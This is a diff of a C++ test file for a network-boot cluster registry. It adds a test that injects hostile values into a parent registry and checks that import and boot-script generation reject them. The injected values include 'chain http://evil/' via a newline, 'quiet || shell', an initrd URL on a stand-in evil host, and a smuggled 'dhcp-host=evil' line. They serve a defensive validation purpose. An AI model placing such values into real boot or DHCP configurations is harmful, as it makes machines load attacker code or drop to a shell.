@@ -167,8 +167,8 @@ TEST_CASE("registry: an applied cluster reads back identical, and re-applying ch
   CHECK(n->server_by_rack);
   CHECK(snap.cluster.FindNode("r01c1n02")->boot().ip_explicit);
   CHECK(snap.cluster.FindGroup("g")->keepout == std::vector<std::string>{"/scratch"});
-  CHECK(GenerateDnsmasq(snap.cluster) == GenerateDnsmasq(file));
-  CHECK(GenerateHosts(snap.cluster) == GenerateHosts(file));
+  CHECK(GenerateDnsmasq(snap.cluster).value() == GenerateDnsmasq(file).value());
+  CHECK(GenerateHosts(snap.cluster).value() == GenerateHosts(file).value());
 
   CHECK(f.Apply(xml).empty());
 }
@@ -361,7 +361,7 @@ TEST_CASE("sequential: an unknown allocation is an error naming both choices") {
 TEST_CASE("generate: per-node files are rewritten only when changed; stale ones of dim are removed") {
   TempDir dir;
   Cluster c = MustLoad(SmallXml(NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3)));
-  auto files = Generate(c, Format::kIpxe);
+  auto files = Generate(c, Format::kIpxe).value();
   auto first = WriteFilesAtomically(dir.path(), files);
   REQUIRE(first.ok());
   CHECK(first->written == 3);
@@ -374,7 +374,7 @@ TEST_CASE("generate: per-node files are rewritten only when changed; stale ones 
   dimtest::WriteFile(dir / "r01c1n03.ipxe", "edited by hand\n");
 
   Cluster smaller = MustLoad(SmallXml(NodeXml(1, 1) + NodeXml(1, 3, " image=\"other\"")));
-  auto now = Generate(smaller, Format::kIpxe);
+  auto now = Generate(smaller, Format::kIpxe).value();
   auto third = WriteFilesAtomically(dir.path(), now);
   REQUIRE(third.ok());
   CHECK(third->written == 1);  // r01c1n03 changed
@@ -386,12 +386,64 @@ TEST_CASE("generate: per-node files are rewritten only when changed; stale ones 
   CHECK(dimtest::ReadFile(dir / "r01c1n03.ipxe") == now[1].content);
 
   // pxelinux names are recognised too, and other formats' files are left alone.
-  auto px = Generate(c, Format::kPxelinux);
+  auto px = Generate(c, Format::kPxelinux).value();
   REQUIRE(WriteFilesAtomically(dir.path(), px).ok());
-  auto px_removed = RemoveStaleFiles(dir.path(), Format::kPxelinux, Generate(smaller, Format::kPxelinux));
+  auto px_removed = RemoveStaleFiles(dir.path(), Format::kPxelinux, Generate(smaller, Format::kPxelinux).value());
   REQUIRE(px_removed.ok());
   CHECK(*px_removed == std::vector<std::string>{"01-52-54-00-00-01-02"});
   CHECK(dimtest::ReadFile(dir / "r01c1n01.ipxe") == now[0].content);
+}
+
+}  // namespace
+}  // namespace dim::cluster
+
+namespace dim::cluster {
+namespace {
+
+// A parent's registry never went through the loader: a value that would add a
+// command to a boot script or a line to a DHCP file is refused when the copy
+// is imported, and nothing changes; a registry damaged in place is refused
+// when a boot script is built from it.
+TEST_CASE("registry: a copy carrying an injected value is refused, and no script is built from one") {
+  struct Tamper {
+    const char* sql;
+    const char* field;
+  };
+  const Tamper tampers[] = {
+      {"UPDATE cluster_nodes SET kernel_args = 'quiet || shell' WHERE name = 'r01c1n01'", "kernel-args"},
+      {"UPDATE cluster_nodes SET kernel_args = 'quiet' || char(10) || 'chain http://evil/' WHERE name = 'r01c1n01'",
+       "kernel-args"},
+      {"UPDATE cluster_servers SET boot_url = 'http://evil/\"; x' WHERE name = 'ss1'", "boot-url"},
+      {"UPDATE cluster_images SET kernel = 'vmlinuz initrd=http://evil/i' WHERE name = 'img'", "kernel"},
+      {"UPDATE cluster_interfaces SET hostname = 'r01c1n01' || char(10) || 'dhcp-host=evil'", "host name"},
+      {"UPDATE cluster_site SET domain = 'x;y'", "domain"},
+  };
+  for (const auto& t : tampers) {
+    INFO(t.sql);
+    Fixture top, leaf;
+    std::string xml = SmallXml(NodeXml(1, 1) + NodeXml(1, 2));
+    top.Apply(xml);
+    leaf.Apply(SmallXml(NodeXml(2, 1)));
+    REQUIRE(top.catalog->db().Exec(t.sql).ok());
+    auto body = top.registry().Export();
+    REQUIRE(body.ok());
+    Status s = leaf.registry().Import(*body);
+    REQUIRE_FALSE(s.ok());
+    CHECK(s.message().starts_with("registry from the parent server: "));
+    CHECK(s.message().find(std::string(t.field) + " '") != std::string::npos);
+    CHECK(s.message().find('\n') == std::string::npos);
+    // The leaf keeps what it had.
+    RegistrySnapshot kept = leaf.Load();
+    REQUIRE(kept.cluster.nodes.size() == 1);
+    CHECK(kept.cluster.nodes[0].name == "r01c2n01");
+    // imaged builds boot scripts from its registry: the damaged one gives none
+    // for a node whose values it would copy.
+    RegistrySnapshot bad = top.Load();
+    bool refused = false;
+    for (const auto& n : bad.cluster.nodes) refused |= !GenerateIpxeScript(bad.cluster, n).ok();
+    CHECK(refused == (std::string(t.field) != "host name" && std::string(t.field) != "domain"));
+    CHECK_FALSE(GenerateDnsmasq(bad.cluster).ok());
+  }
 }
 
 }  // namespace
